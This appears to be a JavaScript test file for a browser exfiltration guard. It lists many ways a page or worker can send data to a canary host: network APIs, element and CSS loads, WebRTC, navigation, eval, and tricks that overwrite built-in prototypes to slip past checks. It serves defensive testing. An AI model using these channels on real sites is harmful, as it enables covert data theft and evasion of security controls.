// Ways to get data out of a page: each is tried in the app's frame or in a worker, with a host name and ports of its own.
// `u` is {url, host, port, ip}. `reaches`: browsers in which the same attempt reaches the canary on a build without
// protection; for the others there is nothing to prove, and they are tried all the same. `needs`: a global without which it
// cannot reach anything; older browsers lack some.

/**
 * @typedef {{url: string, host: string, port: number, ip: string}} Target
 * @typedef {{name: string, run: (u: Target) => any, reaches?: string, needs?: string}} Attempt
 */

/** @param {string} name @param {string} reaches letters of browsers: c, f @param {(u: Target) => any} run @param {string} [needs] @returns {Attempt} */
const attempt = (name, reaches, run, needs) => ({ name, reaches, run, needs });

/* Runs in the page: the helpers are written into the same scope. */
/* global add, make */
/** Appends an element with attributes. @type {(name: string, attributes: Record<string, string>, parent?: Element) => HTMLElement} */
export let add;
/** The same without appending. @type {(name: string, attributes: Record<string, string>) => HTMLElement} */
export let make;

/** Source of the helpers. */
export const HELPERS = `
const make = (name, attributes, space) => {
  const element = space ? document.createElementNS(space, name) : document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  return element;
};
const add = (name, attributes, parent) => { const element = make(name, attributes); (parent || document.body).append(element); return element; };
`;
/** Wraps markup attempts: each is one way to turn text into elements. @type {[string, string, (html: string) => any, string?][]} */
const MARKUP = [
  ['innerHTML', 'cf', (html) => { document.body.appendChild(document.createElement('div')).innerHTML = html; }],
  ['outerHTML', 'cf', (html) => { document.body.appendChild(document.createElement('div')).outerHTML = html; }],
  ['insertAdjacentHTML', 'cf', (html) => document.body.insertAdjacentHTML('beforeend', html)],
  ['createContextualFragment', 'cf', (html) => document.body.append(document.createRange().createContextualFragment(html))],
  ['DOMParser', 'cf', (html) => { const d = new DOMParser().parseFromString(html, 'text/html'); document.body.append(...d.head.childNodes, ...d.body.childNodes); }],
  ['DOMParser xml', 'cf', (html) => document.body.append(new DOMParser().parseFromString(`<x xmlns="http://www.w3.org/1999/xhtml">${html.replace('>', '/>')}</x>`, 'text/xml').documentElement)],
  ['document.write', 'cf', (html) => document.write(html)],
  ['setHTMLUnsafe', 'cf', (html) => /** @type {any} */ (document.body).setHTMLUnsafe(html)],
  ['setHTML', '', (html) => /** @type {any} */ (document.body).setHTML(html)],
  ['parseHTMLUnsafe', 'cf', (html) => { const d = /** @type {any} */ (Document).parseHTMLUnsafe(html); document.body.append(...d.head.childNodes, ...d.body.childNodes); }],
  ['execCommand insertHTML', 'f', (html) => { document.body.contentEditable = 'true'; document.body.focus(); document.execCommand('insertHTML', false, html); }],
  ['template', 'cf', (html) => { const t = document.createElement('template'); t.innerHTML = html; document.body.append(t.content.cloneNode(true)); }],
  ['shadow root', 'cf', (html) => { document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'open' }).innerHTML = html; }],
  ['own Trusted Types policy', 'cf', (html) => { const p = /** @type {any} */ (globalThis).trustedTypes.createPolicy('mfa-shell', { createHTML: (/** @type {string} */ s) => s }); document.body.appendChild(document.createElement('div')).innerHTML = p.createHTML(html); }, 'trustedTypes'],
];

/** All but those that take the document away. @type {Attempt[]} */
export const IN_PAGE = [
  attempt('fetch', 'cf', (u) => fetch(u.url)),
  attempt('fetch no-cors', 'cf', (u) => fetch(u.url, { mode: 'no-cors', method: 'POST', body: 'data' })),
  attempt('fetch keepalive', 'cf', (u) => fetch(u.url, { keepalive: true })),
  attempt('fetch own host', '', (u) => fetch(`/?own=${u.host}`)),
  attempt('XMLHttpRequest', 'cf', (u) => { const x = new XMLHttpRequest(); x.open('GET', u.url); x.send(); }),
  attempt('XMLHttpRequest, synchronous', 'cf', (u) => { const x = new XMLHttpRequest(); x.open('GET', u.url, false); x.send(); }),
  attempt('WebSocket', 'cf', (u) => { new WebSocket(u.url.replace('http', 'ws')); }),
  attempt('WebSocketStream', 'c', (u) => { new /** @type {any} */ (globalThis).WebSocketStream(u.url.replace('http', 'ws')); }),
  attempt('EventSource', 'cf', (u) => { new EventSource(u.url); }),
  attempt('sendBeacon', 'cf', (u) => navigator.sendBeacon(u.url, 'data')),
  attempt('WebTransport', 'cf', (u) => { new /** @type {any} */ (globalThis).WebTransport(u.url.replace('http:', 'https:')); }),
  attempt('fetchLater', '', (u) => /** @type {any} */ (globalThis).fetchLater(u.url, { activateAfter: 0 })),
  attempt('new Image', 'cf', (u) => { new Image().src = u.url; }),
  attempt('img', 'cf', (u) => add('img', { src: u.url })),
  attempt('img srcset', 'cf', (u) => add('img', { srcset: `${u.url} 1x` })),
  attempt('picture source', 'cf', (u) => { const p = add('picture', {}); add('source', { srcset: u.url }, p); add('img', {}, p); }),
  attempt('svg image', 'cf', (u) => { const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', u.url); s.append(i); document.body.append(s); }),
  attempt('svg use', '', (u) => { const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = document.createElementNS('http://www.w3.org/2000/svg', 'use'); i.setAttribute('href', `${u.url}#a`); s.append(i); document.body.append(s); }),
  attempt('svg feImage', 'cf', (u) => { const n = 'http://www.w3.org/2000/svg'; const s = document.createElementNS(n, 'svg'); s.innerHTML = `<filter id="q"><feImage href="${u.url}"/></filter><rect width="9" height="9" filter="url(#q)"/>`; document.body.append(s); }),
  attempt('video', 'cf', (u) => { /** @type {any} */ (add('video', { src: u.url, preload: 'auto' })).load(); }),
  attempt('video poster', 'cf', (u) => add('video', { poster: u.url })),
  attempt('audio', 'cf', (u) => { /** @type {any} */ (add('audio', { src: u.url, preload: 'auto' })).load(); }),
  attempt('new Audio', 'cf', (u) => { new Audio(u.url).load(); }),
  attempt('track', '', (u) => { const v = add('video', {}); add('track', { src: u.url, default: '' }, v); }),
  attempt('object', 'cf', (u) => add('object', { data: u.url })),
  attempt('embed', 'cf', (u) => add('embed', { src: u.url })),
  attempt('input image', 'cf', (u) => add('input', { type: 'image', src: u.url })),
  attempt('iframe', 'cf', (u) => add('iframe', { src: u.url })),
  attempt('iframe srcdoc with img', 'cf', (u) => { /** @type {any} */ (add('iframe', {})).srcdoc = `<img src="${u.url}">`; }),
  attempt('iframe of a blob with img', 'cf', (u) => add('iframe', { src: URL.createObjectURL(new Blob([`<img src="${u.url}">`], { type: 'text/html' })) })),
  attempt('child frame location', 'cf', (u) => { /** @type {any} */ (add('iframe', {})).contentWindow.location = u.url; }),
  attempt('fencedframe', '', (u) => add('fencedframe', { src: u.url })),
  attempt('script', 'cf', (u) => add('script', { src: u.url })),
  attempt('script module', 'cf', (u) => add('script', { src: u.url, type: 'module' })),
  attempt('inline script', 'cf', (u) => { const s = document.createElement('script'); s.textContent = `fetch("${u.url}")`; document.body.append(s); }),
  attempt('import()', 'cf', (u) => import(u.url)),
  attempt('link stylesheet', 'cf', (u) => add('link', { rel: 'stylesheet', href: u.url })),
  attempt('link icon', '', (u) => add('link', { rel: 'icon', href: u.url })),
  attempt('link manifest', '', (u) => add('link', { rel: 'manifest', href: u.url })),
  attempt('link preload', 'cf', (u) => add('link', { rel: 'preload', as: 'image', href: u.url })),
  attempt('link prefetch', 'cf', (u) => add('link', { rel: 'prefetch', href: u.url })),
  attempt('link modulepreload', 'cf', (u) => add('link', { rel: 'modulepreload', href: u.url })),
  attempt('link prerender', '', (u) => add('link', { rel: 'prerender', href: u.url })),
  attempt('link preconnect', 'cf', (u) => add('link', { rel: 'preconnect', href: u.url })),
  attempt('link dns-prefetch', 'c', (u) => add('link', { rel: 'dns-prefetch', href: u.url })),
  attempt('link by createElementNS', 'cf', (u) => { const l = document.createElementNS('http://www.w3.org/1999/xhtml', 'link'); l.setAttribute('rel', 'preconnect'); l.setAttribute('href', u.url); document.head.append(l); }),
  attempt('link by a prefixed name', 'cf', (u) => { const l = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:link'); l.setAttribute('rel', 'preconnect'); l.setAttribute('href', u.url); document.head.append(l); }),
  attempt('link by a name that changes', 'cf', (u) => { let n = 0; const name = { toString: () => (n++ ? 'link' : 'p') }; const l = document.createElement(/** @type {any} */ (name)); const m = document.createElement(/** @type {any} */ (name)); for (const e of [l, m]) { e.setAttribute('rel', 'preconnect'); e.setAttribute('href', u.url); document.head.append(e); } }),
  attempt('link of another document', 'cf', (u) => { const l = document.implementation.createHTMLDocument('').createElement('link'); l.setAttribute('rel', 'preconnect'); l.setAttribute('href', u.url); document.head.append(l); }),
  attempt('link as the root of a new document', 'cf', (u) => { const l = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link').documentElement; l.setAttribute('rel', 'preconnect'); l.setAttribute('href', u.url); document.head.append(l); }),
  attempt('link as a custom element', 'cf', (u) => { class L extends HTMLLinkElement {} customElements.define('x-l', L, { extends: 'link' }); const l = new L(); l.rel = 'preconnect'; l.href = u.url; document.head.append(l); }),
  attempt('link by new Document', 'cf', (u) => { const l = new Document().createElementNS('http://www.w3.org/1999/xhtml', 'link'); l.setAttribute('rel', 'preconnect'); l.setAttribute('href', u.url); document.head.append(l); }),
  attempt('link by XSLT', 'cf', (u) => {
    const parse = (/** @type {string} */ s) => new DOMParser().parseFromString(s, 'text/xml');
    const x = new XSLTProcessor();
    x.importStylesheet(parse(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="${u.url}"/></xsl:template></xsl:stylesheet>`));
    document.head.append(x.transformToFragment(parse('<a/>'), document));
  }),
  attempt('link after the checks were replaced', 'cf', (u) => {
    const keep = [Set.prototype.has, String.prototype.slice, String.prototype.toLowerCase, String.prototype.indexOf, RegExp.prototype.test, Array.prototype.includes];
    Set.prototype.has = () => true;
    Array.prototype.includes = () => true;
    String.prototype.slice = String.prototype.toLowerCase = () => 'p';
    RegExp.prototype.test = () => true;
    try {
      const l = document.createElement('link');
      l.setAttribute('rel', 'preconnect');
      l.setAttribute('href', u.url);
      document.head.append(l);
    } finally {
      [Set.prototype.has, String.prototype.slice, String.prototype.toLowerCase, String.prototype.indexOf, RegExp.prototype.test, Array.prototype.includes] = /** @type {any} */ (keep);
    }
  }),
  attempt('link after createElement was deleted', 'cf', (u) => {
    // Where it can be deleted it is put back, for the attempts that follow.
    const own = Object.getOwnPropertyDescriptor(Document.prototype, 'createElement');
    delete (/** @type {any} */ (Document.prototype).createElement);
    if (own && !document.createElement) Object.defineProperty(Document.prototype, 'createElement', own);
    const l = document.createElement('link');
    l.setAttribute('rel', 'preconnect');
    l.setAttribute('href', u.url);
    document.head.append(l);
  }),
  attempt('style attribute', 'cf', (u) => add('div', { style: `background:url(${u.url})` }).append('x')),
  attempt('style by script', 'cf', (u) => { const d = add('div', {}); d.append('x'); d.style.background = `url(${u.url})`; }),
  attempt('style image-set', 'cf', (u) => { const d = add('div', {}); d.append('x'); d.style.backgroundImage = `image-set(url(${u.url}) 1x)`; }),
  attempt('style cursor', 'cf', (u) => { const d = add('div', {}); d.append('x'); d.style.cursor = `url(${u.url}), auto`; }),
  attempt('style list image', 'cf', (u) => { const d = add('li', {}); d.append('x'); d.style.listStyleImage = `url(${u.url})`; }),
  attempt('style mask', 'cf', (u) => { const d = add('div', {}); d.append('x'); d.style.setProperty('mask', `url(${u.url})`); d.style.setProperty('-webkit-mask', `url(${u.url})`); }),
  attempt('style content', 'cf', (u) => { const s = new CSSStyleSheet(); s.replaceSync(`main::before{content:url(${u.url})}`); document.adoptedStyleSheets.push(s); }),
  attempt('style element with @import', 'cf', (u) => { const s = document.createElement('style'); s.textContent = `@import "${u.url}"`; document.head.append(s); }),
  attempt('rule into a style sheet', 'cf', (u) => { const d = add('div', { class: 'canary-rule' }); d.append('x'); document.styleSheets[0].insertRule(`.canary-rule{background:url(${u.url})}`, 0); }),
  attempt('@font-face', 'cf', (u) => { const s = new CSSStyleSheet(); s.replaceSync(`@font-face{font-family:q;src:url(${u.url})}.canary-font{font-family:q}`); document.adoptedStyleSheets.push(s); add('p', { class: 'canary-font' }).append('x'); }),
  attempt('FontFace', 'cf', (u) => new FontFace('q', `url(${u.url})`).load()),
  attempt('STUN by name', 'cf', (u) => { const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:${u.host}:${u.port}` }] }); c.createDataChannel('x'); return c.createOffer().then((o) => c.setLocalDescription(o)); }),
  attempt('STUN by address', 'cf', (u) => { const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:${u.ip}:${u.port}` }] }); c.createDataChannel('x'); return c.createOffer().then((o) => c.setLocalDescription(o)); }),
  attempt('TURN over TCP', 'cf', (u) => { const c = new RTCPeerConnection({ iceServers: [{ urls: `turn:${u.host}:${u.port}?transport=tcp`, username: 'data', credential: 'data' }] }); c.createDataChannel('x'); return c.createOffer().then((o) => c.setLocalDescription(o)); }),
  attempt('STUN from a fresh frame', 'cf', (u) => { const c = new (/** @type {any} */ (add('iframe', {})).contentWindow.RTCPeerConnection)({ iceServers: [{ urls: `stun:${u.ip}:${u.port}` }] }); c.createDataChannel('x'); return c.createOffer().then((/** @type {any} */ o) => c.setLocalDescription(o)); }),
  attempt('shared worker', 'cf', (u) => { new SharedWorker(URL.createObjectURL(new Blob([`fetch("${u.url}")`], { type: 'text/javascript' }))); }),
  attempt('worker of a foreign address', '', (u) => { new Worker(u.url); }),
  attempt('worker of a data: address', 'cf', (u) => { new Worker(`data:text/javascript,fetch("${u.url}",{mode:"no-cors"})`); }),
  attempt('worker of a blob, by the guard', 'cf', (u) => { new Worker(mfaGuard.workerUrl(URL.createObjectURL(new Blob([`fetch("${u.url}",{mode:"no-cors"})`], { type: 'text/javascript' })))); }),
  attempt('service worker', '', (u) => navigator.serviceWorker.register(u.url)),
  attempt('worklet', 'c', (u) => /** @type {any} */ (CSS).paintWorklet.addModule(u.url)),
  attempt('audio worklet', 'cf', (u) => new AudioContext().audioWorklet.addModule(u.url)),
  attempt('eval', 'cf', (u) => { (0, eval)(`fetch("${u.url}",{mode:"no-cors"})`); }),
  attempt('Function', 'cf', (u) => { new Function(`fetch("${u.url}",{mode:"no-cors"})`)(); }),
  attempt('setTimeout of a text', 'cf', (u) => { setTimeout(`fetch("${u.url}",{mode:"no-cors"})`); }),
  attempt('inline handler', 'cf', (u) => { const d = add('button', { onclick: `fetch("${u.url}",{mode:"no-cors"})` }); d.click(); }),
  attempt('speculation rules', '', (u) => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: [u.url] }], prerender: [{ urls: [u.url] }] }); document.head.append(s); }),
  attempt('a ping', 'c', (u) => { const a = /** @type {any} */ (add('a', { href: '#', ping: u.url })); a.addEventListener('click', (/** @type {Event} */ e) => e.preventDefault); a.click(); }),
  attempt('a rendered link', '', (u) => add('a', { href: u.url }).append(u.host)),
  attempt('a link by its parts', '', (u) => { const a = /** @type {any} */ (add('a', { href: '#' })); a.append('x'); a.host = `${u.host}:${u.port}`; }),
  attempt('a link by its attribute node', '', (u) => { const a = add('a', { href: '#' }); const n = /** @type {Attr} */ (a.getAttributeNode('href')); n.nodeValue = u.url; a.append('x'); }),
  attempt('payment request', '', (u) => new PaymentRequest([{ supportedMethods: u.url }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show()),
  attempt('federated credentials', '', (u) => /** @type {any} */ (navigator.credentials).get({ identity: { providers: [{ configURL: u.url, clientId: 'x' }] } })),
  attempt('notification icon', '', (u) => { new Notification('x', { icon: u.url }); }),
  attempt('presentation', '', (u) => new /** @type {any} */ (globalThis).PresentationRequest([u.url]).start()),
  attempt('cache', 'cf', async (u) => (await caches.open('x')).add(u.url)),
  attempt('message to whoever is outside', '', (u) => { for (const to of [parent, top, opener]) to?.postMessage({ type: 'save', blob: u.url, name: u.url }, '*'); }),
  ...MARKUP.map(([name, reaches, run, needs]) => attempt(`markup by ${name}`, reaches, /** @type {any} */ (`(u) => (${run})('<img src="' + u.url + '">')`), needs)),
  ...MARKUP.map(([name, reaches, run, needs]) => attempt(`preconnect by ${name}`, reaches, /** @type {any} */ (`(u) => (${run})('<link rel="preconnect" href="' + u.url + '">')`), needs)),
];

/** Each may take the document away, so each gets a fresh page and a real click first. @type {Attempt[]} */
export const NAVIGATING = [
  attempt('location =', 'cf', (u) => { location.href = u.url; }),
  attempt('location.assign', 'cf', (u) => location.assign(u.url)),
  attempt('location.replace', 'cf', (u) => location.replace(u.url)),
  attempt('navigation.navigate', 'cf', (u) => /** @type {any} */ (globalThis).navigation.navigate(u.url), 'navigation'),
  attempt('top.location =', 'cf', (u) => { /** @type {any} */ (top).location = u.url; }),
  attempt('parent.location.replace', 'cf', (u) => parent.location.replace(u.url)),
  attempt('window.open', 'cf', (u) => { open(u.url); }),
  attempt('window.open in its own frame', 'cf', (u) => { open(u.url, '_self'); }),
  attempt('window.open by prototype', 'cf', (u) => { const w = /** @type {any} */ (document.defaultView); (w.open ?? Window.prototype.open).call(w, u.url); }),
  attempt('document.open of an address', 'cf', (u) => { /** @type {any} */ (document).open(u.url, 'x', ''); }),
  attempt('popup of our own with img', 'cf', (u) => { /** @type {any} */ (open('about:blank')).document.body.innerHTML = `<img src="${u.url}">`; }),
  attempt('link click', 'cf', (u) => add('a', { href: u.url }).click()),
  attempt('link click without a document', 'cf', (u) => make('a', { href: u.url }).click()),
  attempt('link to a new tab', 'cf', (u) => add('a', { href: u.url, target: '_blank' }).click()),
  attempt('link to the top', 'cf', (u) => add('a', { href: u.url, target: '_top' }).click()),
  attempt('link as a download', 'cf', (u) => add('a', { href: u.url, download: 'x' }).click()),
  attempt('svg link', 'cf', (u) => { const n = 'http://www.w3.org/2000/svg'; const s = document.createElementNS(n, 'svg'); const a = document.createElementNS(n, 'a'); a.setAttribute('href', u.url); s.append(a); document.body.append(s); a.dispatchEvent(new MouseEvent('click')); }),
  attempt('area', 'cf', (u) => { const m = add('map', {}); add('area', { href: u.url }, m).click(); }),
  attempt('form', 'cf', (u) => { const f = /** @type {any} */ (add('form', { action: u.url })); f.submit(); }),
  attempt('form by POST', 'cf', (u) => { const f = /** @type {any} */ (add('form', { action: u.url, method: 'post' })); f.requestSubmit(); }),
  attempt('form to a new tab', 'cf', (u) => { const f = /** @type {any} */ (add('form', { action: u.url, target: '_blank' })); f.submit(); }),
  attempt('form to a frame', 'cf', (u) => { add('iframe', { name: 'q' }); const f = /** @type {any} */ (add('form', { action: u.url, target: 'q' })); f.submit(); }),
  attempt('button with an address', 'cf', (u) => { const f = add('form', {}); const b = add('button', { formaction: u.url }, f); b.click(); }),
  attempt('meta refresh', 'cf', (u) => { add('meta', { 'http-equiv': 'refresh', content: `0;url=${u.url}` }, document.head); }),
  attempt('own blob page with img', 'cf', (u) => { location.href = URL.createObjectURL(new Blob([`<img src="${u.url}">`], { type: 'text/html' })); }),
  attempt('javascript: address', 'cf', (u) => { location.href = `javascript:void fetch("${u.url}",{mode:"no-cors"})`; }),
  attempt('data: page', 'cf', (u) => { location.href = `data:text/html,<img src="${u.url}">`; }),
  attempt('policy with a report address', '', (u) => { add('meta', { 'http-equiv': 'Content-Security-Policy', content: `img-src 'none'; report-uri ${u.url}` }, document.head); add('img', { src: 'data:,' }); }),
  attempt('base, and an address below it', 'cf', (u) => { add('base', { href: u.url }, document.head); return fetch('x'); }),
];

/** In a worker that runs the whole worker script of the page. @type {Attempt[]} */
export const IN_WORKER = [
  attempt('worker: fetch', 'cf', (u) => fetch(u.url, { mode: 'no-cors' })),
  attempt('worker: XMLHttpRequest', 'cf', (u) => { const x = new XMLHttpRequest(); x.open('GET', u.url); x.send(); }),
  attempt('worker: WebSocket', 'cf', (u) => { new WebSocket(u.url.replace('http', 'ws')); }),
  attempt('worker: EventSource', 'cf', (u) => { new EventSource(u.url); }),
  attempt('worker: WebTransport', 'cf', (u) => { new /** @type {any} */ (globalThis).WebTransport(u.url.replace('http:', 'https:')); }),
  attempt('worker: importScripts', 'cf', (u) => /** @type {any} */ (globalThis).importScripts(u.url)),
  attempt('worker: import()', 'cf', (u) => import(u.url)),
  attempt('worker: eval', 'cf', (u) => { (0, eval)(`fetch("${u.url}",{mode:"no-cors"})`); }),
  attempt('worker: nested worker', 'cf', (u) => { new Worker(URL.createObjectURL(new Blob([`fetch("${u.url}",{mode:"no-cors"})`], { type: 'text/javascript' }))); }),
  attempt('worker: nested worker of a foreign address', '', (u) => { new Worker(u.url); }),
  attempt('worker: FontFace', 'cf', (u) => new FontFace('q', `url(${u.url})`).load()),
  attempt('worker: STUN', '', (u) => { new RTCPeerConnection({ iceServers: [{ urls: `stun:${u.ip}:${u.port}` }] }).createDataChannel('x'); }),
  attempt('worker: cache', 'cf', async (u) => (await caches.open('x')).add(u.url)),
  attempt('worker: removed and found again by the prototype', 'cf', (u) => { let o = Object.getPrototypeOf(globalThis); for (; o; o = Object.getPrototypeOf(o)) if (Object.hasOwn(o, 'fetch')) o.fetch.call(globalThis, u.url); }),
];

